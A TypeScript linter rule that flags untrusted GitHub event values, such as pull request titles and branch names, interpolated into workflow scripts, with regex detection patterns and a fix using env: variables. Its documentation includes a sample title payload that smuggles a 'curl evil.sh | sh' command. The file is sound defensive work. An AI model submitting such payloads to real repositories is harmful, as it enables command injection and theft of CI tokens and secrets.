import type { RawFinding, Rule } from "../types.js";
import { stepsOf } from "../workflow/steps.js";
import { child, interpolations, literalText, spanOf } from "../workflow/tokens.js";

/** Context values anyone who opens an issue or a pull request controls (GitHub's security hardening guide). */
const UNTRUSTED = [
  /\bgithub\s*\.\s*head_ref\b/i,
  /\bgithub\s*\.\s*event\s*\.\s*(?:issue|pull_request|discussion)\s*\.\s*(?:title|body)\b/i,
  /\bgithub\s*\.\s*event\s*\.\s*(?:comment|review|review_comment)\s*\.\s*body\b/i,
  /\bgithub\s*\.\s*event\s*\.\s*pull_request\s*\.\s*head\s*\.\s*(?:ref|label|repo\s*\.\s*default_branch)\b/i,
  /\bgithub\s*\.\s*event\s*\.\s*(?:head_commit|commits\b[^}]*?)\s*\.\s*(?:message|author\s*\.\s*(?:email|name))\b/i,
  /\bgithub\s*\.\s*event\s*\.\s*pages\b[^}]*?\.\s*page_name\b/i,
  /\bgithub\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*(?:head_branch|display_title|head_commit\s*\.\s*(?:message|author\s*\.\s*(?:email|name)))\b/i,
];

export function untrustedInput(expression: string): boolean {
  return UNTRUSTED.some((pattern) => pattern.test(expression));
}

export const untrustedInputRule: Rule = {
  id: "untrusted-input",
  title: "untrusted input interpolated into a script",
  category: "secrets",
  severity: "error",
  securitySeverity: 9.0,
  kinds: ["workflow", "action"],
  docs: {
    description:
      "A pull request's title, a branch name, an issue or a comment body is text chosen by whoever opened it. Interpolated with `${{ }}` into `run:` (or `actions/github-script`'s `script:`), it becomes code: a title such as `a\"; curl evil.sh | sh; \"` runs on the runner with the job's token and secrets. Pass it through `env:` and use the variable, quoted.",
    bad: `steps:
  - run: echo "Deploying \${{ github.event.pull_request.title }}"`,
    good: `steps:
  - env:
      TITLE: \${{ github.event.pull_request.title }}
    run: echo "Deploying $TITLE"`,
  },
  check(doc) {
    if (doc.kind !== "workflow" && doc.kind !== "action") return [];
    const findings: RawFinding[] = [];
    for (const { step } of stepsOf(doc)) {
      const uses = literalText(step.uses) ?? "";
      const targets = [step.run, /^actions\/github-script@/i.test(uses) ? child(step.with, "script") : undefined];
      for (const target of targets) {
        for (const i of interpolations(target)) {
          if (!untrustedInput(i.expression)) continue;
          findings.push({
            span: spanOf(doc.source, i.range),
            message: `untrusted input '\${{ ${i.expression.trim()} }}' interpolated into a script: whoever writes it can run commands; pass it through env: and use the quoted variable`,
          });
        }
      }
    }
    return findings;
  },
};
